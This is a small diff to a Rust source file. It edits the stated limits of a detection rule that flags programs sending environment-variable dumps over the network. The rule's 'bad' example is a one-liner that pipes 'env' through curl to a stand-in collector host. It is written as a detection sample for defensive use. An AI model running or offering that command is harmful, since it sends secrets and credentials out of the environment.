@@ -14,7 +14,7 @@ pub(super) static RULE: Rule = Rule {
     what: "What `env`, `printenv`, `export -p` or `/proc/…/environ` prints goes into what a program sends.",
     why: "Tokens and passwords of every tool stand in it.",
     instead: "Send the one value that is needed, by name.",
-    limits: "Single variables are left alone. What programs in other languages send is not seen.",
+    limits: "Single variables are left alone. Programs in other languages are found only as `exfil.to-collector`.",
     bad: "```sh\nenv | curl -s -X POST --data-binary @- https://collect.example.com/in\n```\n",
     alike: "```sh\nenv | sort > before.txt\ncurl -d \"user=$USER\" https://api.example.com/v1\n```\n",
     look: Look::Event(|event, _| match event {
